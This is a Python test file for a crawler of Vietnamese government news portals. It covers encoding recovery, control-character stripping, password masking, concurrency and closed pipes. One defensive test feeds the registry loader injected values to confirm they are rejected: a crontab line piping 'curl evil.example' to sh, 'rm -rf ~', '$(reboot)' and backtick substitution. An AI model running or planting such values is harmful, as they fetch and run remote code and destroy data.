"""Hostile and careless input that once lost or garbled data: encodings, control characters,
operators' mistakes on the command line and in the registry. In-process, no crawl."""

from __future__ import annotations

import os
import re
import subprocess
import sys

import pytest
from conftest import PROJECT, SCRAPY
from test_pipelines import BODY, Chain, article

from crawler.db import DatabaseConfigError, make_engine, masked_url
from crawler.registry import RegistryError, load_registry
from crawler.scheduling import Job, SchedulingError, crontab_lines, post_job
from crawler.text.legacy_fonts import TCVN3_TO_UNICODE
from crawler.text.normalize import decode_html, diacritics_quality

ARTICLE = (
    "Hội nghị tổng kết công tác năm 2023 của Đảng ủy xã Quang Thành được tổ chức trang trọng, "
    "với sự tham dự của lãnh đạo huyện và đông đảo đảng viên trong toàn xã."
)
PAGE = f"<html><head><meta charset='utf-8'></head><body><p>{ARTICLE}</p></body></html>"


def _with_bad_bytes(page: str, *positions: int) -> bytes:
    body = page.encode("utf-8")
    for position in sorted(positions, reverse=True):
        body = body[:position] + b"\xff" + body[position:]
    return body


@pytest.mark.parametrize("positions", [(120,), (90, 150, 200), (len(PAGE.encode()) - 30,)])
def test_a_utf8_page_with_invalid_bytes_stays_utf8_with_the_bytes_replaced(positions):
    decoded = decode_html(_with_bad_bytes(PAGE, *positions))
    assert decoded.encoding == "utf-8"
    assert 1 <= decoded.text.count("\ufffd") <= 4 * len(positions)  # a split letter gives several
    words = re.findall(r"\w+", ARTICLE)
    kept = [word for word in words if word in re.findall(r"\w+", decoded.text)]
    assert len(kept) >= len(words) - 2 * len(positions)  # only the words with a bad byte
    assert diacritics_quality(decoded.text).label != "mojibake"


def test_a_real_tcvn3_page_with_a_utf8_looking_pair_still_converts():
    to_tcvn3 = {unicode: byte for byte, unicode in TCVN3_TO_UNICODE.items()}
    legacy = "".join(to_tcvn3.get(char, char) for char in ARTICLE).encode("latin-1")
    body = b"<html><body><p>" + legacy + b" \xc3\xa9</p></body></html>"  # "é" in UTF-8 bytes
    decoded = decode_html(body)
    assert decoded.encoding == "tcvn3"
    assert "tổng kết công tác" in decoded.text.lower()


CONTROLS = "\x00\x07\x08\x0b\x0c\x1b\x7f\x85\u200b\u202e\ufeff"


def test_control_characters_never_reach_title_author_or_category(tmp_path):
    chain = Chain(tmp_path / "c.db")
    try:
        hostile = article(title=f"Hội{CONTROLS} nghị\x1b[31m triển khai")
        hostile.update(author=f"\x07Nguyễn{CONTROLS}Văn A", category=f"Tin\x00 tức{CONTROLS}")
        item = chain.run(hostile)
    finally:
        chain.close()
    for field in ("title", "author", "category"):
        assert not any(char in item[field] for char in CONTROLS), (field, item[field])
    assert item["title"] == "Hội nghị[31m triển khai"
    assert item["author"] == "NguyễnVăn A"
    assert item["category"] == "Tin tức"


# ------------------------------------------------------------------ operators' mistakes

REGISTRY_ENTRY = """[[portal]]
id = {id}
host = {host}
family = "haiduong"
name = "Xã A"
level = "xã"
province = "Hải Dương"
listings = [{listing}]
"""


def registry_file(tmp_path, id='"xa-a"', host='"a.gov.vn"', listing='"http://a.gov.vn/tin"'):
    path = tmp_path / "portals.toml"
    path.write_text(REGISTRY_ENTRY.format(id=id, host=host, listing=listing), encoding="utf-8")
    return path


@pytest.mark.parametrize(
    ("field", "value", "message"),
    [
        ("id", '"xa-a\\n* * * * * curl evil.example | sh"', "line break or control character"),
        ("id", '"xa-a;rm -rf ~"', "may hold only letters, digits"),
        ("id", '"$(reboot)"', "may hold only letters, digits"),
        ("host", '"a.gov.vn`id`"', "is not a host name"),
        ("host", '"a.gov.vn a"', "is not a host name"),
        ("listing", '"http://a.gov.vn/tin\\n30 1 * * * sh"', "spaces or control characters"),
    ],
)
def test_registry_ids_hosts_and_urls_cannot_carry_shell_or_crontab_text(
    tmp_path, field, value, message
):
    with pytest.raises(RegistryError, match=message):
        load_registry(registry_file(tmp_path, **{field: value}))


def test_the_crontab_holds_no_injected_line_and_no_password(tmp_path):
    registry = load_registry(registry_file(tmp_path))
    lines = crontab_lines(
        registry, "/srv/c", "/srv/c/.venv/bin/scrapy", "/srv/c/logs/s.log",
        "http://ops:s3cret@127.0.0.1:6800",
    )  # fmt: skip
    text = "\n".join(lines)
    assert "s3cret" not in text
    assert "SCRAPYD_URL=http://127.0.0.1:6800" in lines
    assert "SCRAPYD_USERNAME=ops" in lines
    commands = [line for line in lines if not line.startswith("#") and "=" not in line.split()[0]]
    assert len(commands) == 1


@pytest.mark.parametrize(
    "url",
    ["postgresql://crawler:s3cret@db.example:5432/news", "http://ops:s3cret@127.0.0.1:6800/"],
)
def test_passwords_are_masked_in_messages(url):
    assert "s3cret" not in masked_url(url) and ":***@" in masked_url(url)
    with pytest.raises(DatabaseConfigError) as raised:
        make_engine(url.replace("postgresql", "mysql+nosuchdriver").replace("http", "mysql+x"))
    assert "s3cret" not in str(raised.value)


def test_an_unreachable_scrapyd_message_hides_its_password():
    with pytest.raises(SchedulingError) as raised:
        post_job("http://ops:s3cret@127.0.0.1:9/", "crawler", Job("haiduong"), timeout=2)
    assert "s3cret" not in str(raised.value) and "ops:***@127.0.0.1" in str(raised.value)


def run_command(*arguments, env=None, tmp_path=None):
    environment = {"PATH": "/usr/bin:/bin", **(env or {})}
    if tmp_path is not None:
        environment.setdefault("DATABASE_URL", f"sqlite:///{tmp_path / 'c.db'}")
    return subprocess.run(
        [SCRAPY, *arguments], cwd=PROJECT, env=environment, capture_output=True, text=True,
        timeout=120,
    )  # fmt: skip


def one_error_line(result) -> str:
    errors = [line for line in result.stderr.splitlines() if line.startswith("error:")]
    assert len(errors) == 1 and "Traceback" not in result.stderr, result.stderr[-2000:]
    return errors[0]


@pytest.mark.parametrize(
    "command",
    [("schedule", "--crontab"), ("deploy", "--url", "http://127.0.0.1:9")],
    ids=["schedule", "deploy"],
)
def test_scrapyd_commands_flag_a_password_without_a_user_name(tmp_path, command):
    result = run_command(*command, env={"SCRAPYD_PASSWORD": "s3cret"}, tmp_path=tmp_path)
    assert result.returncode == 2
    assert "SCRAPYD_USERNAME is not" in one_error_line(result)
    assert "s3cret" not in result.stdout + result.stderr


def test_scrapy_reparse_with_an_unknown_portal_is_one_line_and_exit_2(tmp_path):
    result = run_command("reparse", "--portal", "nowhere", tmp_path=tmp_path)
    assert result.returncode == 2
    assert "unknown portal 'nowhere'" in one_error_line(result)


# ------------------------------------------------------------------ concurrency


def _create_schema_at_the_barrier(url, barrier):
    from crawler.db import create_schema

    engine = make_engine(url)
    barrier.wait()
    create_schema(engine)
    engine.dispose()


def test_crawls_starting_together_on_a_new_database_all_create_its_schema(tmp_path):
    """Eight jobs started at once on a new SQLite file: each CREATE TABLE lost to another job
    once failed a crawl ("table portal_flags already exists"); three passes were not enough.
    Switching the new file to WAL failed one job in a few rounds ("database is locked": SQLite
    does not wait for that lock), so the rounds are eight."""
    import multiprocessing

    context = multiprocessing.get_context("fork")
    for round_number in range(8):
        url = f"sqlite:///{tmp_path / f'new-{round_number}.db'}"
        barrier = context.Barrier(8)
        jobs = [
            context.Process(target=_create_schema_at_the_barrier, args=(url, barrier))
            for _ in range(8)
        ]
        for job in jobs:
            job.start()
        for job in jobs:
            job.join(60)
        assert [job.exitcode for job in jobs] == [0] * 8


def test_a_schema_upgrade_that_another_crawl_already_did_is_not_an_error(tmp_path, monkeypatch):
    """Two crawls upgrade an old database at once: both saw the column missing, one adds it,
    the other's ALTER TABLE fails with "duplicate column name" and once stopped its crawl."""
    import sqlalchemy

    import crawler.db as db

    url = f"sqlite:///{tmp_path / 'old.db'}"
    engine = make_engine(url)
    db.create_schema(engine)
    with engine.begin() as connection:
        connection.exec_driver_sql("ALTER TABLE crawl_runs DROP COLUMN articles_known")
        connection.exec_driver_sql("ALTER TABLE pages DROP COLUMN etag")
    inspector = sqlalchemy.inspect(engine)  # what the slower crawl saw before the faster one
    seen = {table: inspector.get_columns(table) for table in inspector.get_table_names()}

    class Stale:
        def get_columns(self, table):
            return seen[table]

    db.add_missing_columns(engine)  # the faster crawl
    monkeypatch.setattr(db, "inspect", lambda _engine: Stale())
    db.add_missing_columns(engine)  # the slower one: every ALTER now hits a present column
    columns = {c["name"] for c in sqlalchemy.inspect(make_engine(url)).get_columns("pages")}
    assert "etag" in columns


# ------------------------------------------------------------------ closed pipes


@pytest.mark.parametrize(
    "command",
    [
        [sys.executable, "-m", "crawler.indicators", "{text}"],
        [SCRAPY, "schedule", "--crontab"],
        [SCRAPY, "health", "--json"],
    ],
    ids=["indicators", "schedule --crontab", "health"],
)
def test_commands_survive_a_closed_pipe(command, tmp_path):
    text = tmp_path / "report.txt"
    text.write_text("Thu nhập bình quân năm 2023 đạt 92,5 triệu đồng. " * 20_000, encoding="utf-8")
    env = {**os.environ, "DATABASE_URL": f"sqlite:///{tmp_path / 'c.db'}"}
    env.pop("SCRAPYD_PASSWORD", None)
    process = subprocess.Popen(
        [part.format(text=text) for part in command], cwd=PROJECT, env=env,
        stdin=subprocess.DEVNULL, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
    )  # fmt: skip
    process.stdout.readline()  # `| head -1`
    process.stdout.close()
    errors = process.stderr.read()
    process.wait(timeout=120)
    assert "Traceback" not in errors and "BrokenPipeError" not in errors, errors[-2000:]
    assert process.returncode in (0, 1)  # health: 1 when portals were never crawled


def test_overlapping_crawls_count_each_new_article_once(tmp_path):
    """Two crawls storing the same articles at once: each article is new for exactly one of
    them (the check and the write are one transaction holding SQLite's write lock)."""
    import threading

    db = tmp_path / "shared.db"
    Chain(db).close()  # the schema, before both start
    chains = [Chain(db, STORAGE_BATCH_SIZE=5) for _ in range(2)]
    urls = [f"http://quangthanh.kinhmon.haiduong.gov.vn/Trang/ChiTietTinTuc.aspx?nid={n}"
            for n in range(1, 61)]  # fmt: skip
    start = threading.Barrier(2)
    errors = []

    def store(chain):
        start.wait()
        try:
            for number, url in enumerate(urls, 1):
                chain.run(article(url=url, body=f"{number}: " + BODY.replace("2024", str(number))))
            chain.close()
        except Exception as error:  # noqa: BLE001 (reported below)
            errors.append(error)

    threads = [threading.Thread(target=store, args=(chain,)) for chain in chains]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(timeout=120)
    assert not errors
    new = [chain.stat("articles/new") or 0 for chain in chains]
    updated = [chain.stat("articles/updated") or 0 for chain in chains]
    assert sum(new) == len(urls) and sum(updated) == len(urls), (new, updated)
    assert not any(chain.stat("storage/failed") for chain in chains)


def test_reparse_runs_never_count_as_crawls_in_health(tmp_path):
    from crawler.db import CrawlRunRow, create_schema
    from crawler.health import known_portals, runs_by_portal

    engine = make_engine(f"sqlite:///{tmp_path / 'h.db'}")
    create_schema(engine)
    run = dict(portal="xa-a", started_at="2024-07-01T01:00:00+07:00", finish_reason="finished",
               articles_new=0, articles_updated=9, failed_checks="")  # fmt: skip
    with engine.begin() as connection:  # rows an older version wrote for `scrapy reparse`
        connection.execute(CrawlRunRow.__table__.insert(), [
            {**run, "spider": "haiduong", "finished_at": "2024-07-01T01:00:00+07:00"},
            {**run, "spider": "reparse", "portal": "xa-b", "finished_at": "2024-07-02T01:00:00+07:00"},
            {**run, "spider": "reparse", "finished_at": "2024-07-03T01:00:00+07:00"},
        ])  # fmt: skip
    runs = runs_by_portal(engine)
    assert [r.spider for r in runs["xa-a"]] == ["haiduong"] and "xa-b" not in runs
    assert known_portals(engine, []) == ["xa-a"]


def test_a_reparse_writes_no_crawl_run(tmp_path):
    from types import SimpleNamespace

    from scrapy.utils.test import get_crawler

    from crawler.extensions.runs import CrawlRuns

    crawler = get_crawler(settings_dict={"DATABASE_URL": f"sqlite:///{tmp_path / 'r.db'}"})
    crawler.stats.set_value("articles/updated/xa-a", 3)
    extension = CrawlRuns(crawler)
    extension.spider_closed(SimpleNamespace(name="reparse", portals=[]), "finished")
    assert crawler.stats.get_value("crawl_runs/recorded") is None
    extension.spider_closed(SimpleNamespace(name="haiduong", portals=[]), "finished")
    assert crawler.stats.get_value("crawl_runs/recorded") == 1
